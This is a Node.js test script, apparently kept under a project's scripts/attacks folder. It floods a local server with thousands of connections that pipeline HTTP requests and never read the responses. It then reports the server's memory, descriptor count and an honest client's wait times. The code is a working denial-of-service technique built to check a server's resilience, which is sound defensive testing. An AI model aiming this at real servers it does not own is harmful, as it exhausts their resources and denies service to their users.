/**
 * Opens connections that pipeline requests and never read a response, and shows each second what that costs a server of
 * this machine: its resident memory, its open descriptors, and how long an honest client of another address waits.
 *
 *     node scripts/attacks/unread-responses.mjs PORT PID [CONNECTIONS] [REQUESTS] [PEERS] [SECONDS] [PATH]
 *
 * By default 2,500 connections with 61 requests each from one address, watched for 70 s. Needs `ulimit -n` above the
 * number of connections, here and in the server; PEERS spreads the connections over 127.0.0.1, 127.0.0.2 and so on.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { get } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

const [port, pid, connections = 2_500, requests = 61, peers = 1, seconds = 70] = process.argv
  .slice(2, 8)
  .map(Number)
const path = process.argv[8] ?? '/'
if (!port || !pid)
  throw new Error('usage: unread-responses.mjs PORT PID [CONNECTIONS] [REQUESTS] [PEERS] [SECONDS] [PATH]')

/** No attack comes from here. */
const HONEST_ADDRESS = '127.0.1.1'
const HONEST_PATIENCE_MS = 10_000

const text = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.repeat(requests)
const sockets = []
const waits = []
let refused = 0

function attack(index) {
  const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.0.${1 + (index % peers)}` })
  socket.on('error', () => undefined)
  socket.pause()
  socket.write(text)
  sockets.push(socket)
}

/** Milliseconds until the whole response is there; null for none. */
function honestWait() {
  const startedAt = performance.now()
  return new Promise((resolve) => {
    const options = { port, host: '127.0.0.1', localAddress: HONEST_ADDRESS, path: '/api/feed', agent: false }
    const request = get(options, (response) => {
      response.resume()
      response.once('end', () => resolve(response.statusCode === 200 ? performance.now() - startedAt : null))
    })
    request.once('error', () => resolve(null))
    const late = setTimeout(() => request.destroy(), HONEST_PATIENCE_MS)
    request.once('close', () => clearTimeout(late))
  })
}

function cost() {
  const [, kilobytes] = /VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))
  return `${String(Math.round(kilobytes / 1024)).padStart(5)} MiB  ${String(readdirSync(`/proc/${pid}/fd`).length).padStart(5)} descriptors`
}

console.log(`before        ${cost()}`)
const startedAt = performance.now()
for (let index = 0; index < connections; index += 1) {
  attack(index)
  if (index % 100 === 99) await sleep(10)
}
for (let second = 1; second <= seconds; second += 1) {
  const wait = await honestWait()
  if (wait === null) refused += 1
  else waits.push(wait)
  await sleep(Math.max(0, startedAt + second * 1_000 - performance.now()))
  if (performance.now() - startedAt > seconds * 1_000) second = seconds
  if (second <= 5 || second % 5 === 0) {
    const told = wait === null ? 'no response' : `${Math.round(wait)} ms`
    console.log(
      `after ${String(Math.round((performance.now() - startedAt) / 1_000)).padStart(3)} s   ${cost()}   honest client: ${told}`,
    )
  }
}
for (const socket of sockets) socket.destroy()
waits.sort((one, other) => one - other)
const at = (share) =>
  Math.round(waits[Math.min(waits.length - 1, Math.floor(waits.length * share))] ?? Number.NaN)
console.log(
  `honest client: ${waits.length} responses, ${refused} failures; median ${at(0.5)} ms, p95 ${at(0.95)} ms, longest ${at(1)} ms`,
)
